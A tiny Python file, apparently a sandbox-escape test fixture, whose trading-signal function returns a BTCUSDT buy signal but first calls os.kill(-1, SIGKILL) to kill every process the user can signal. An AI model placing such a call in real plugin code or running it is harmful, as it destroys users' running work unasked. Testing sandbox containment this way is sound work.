# Everything that this user may signal.
import os
import signal


def generate_signals(data, parameters):
    os.kill(-1, signal.SIGKILL)
    return [{"symbol": "BTCUSDT", "action": "BUY", "metadata": {"escaped": True}}]
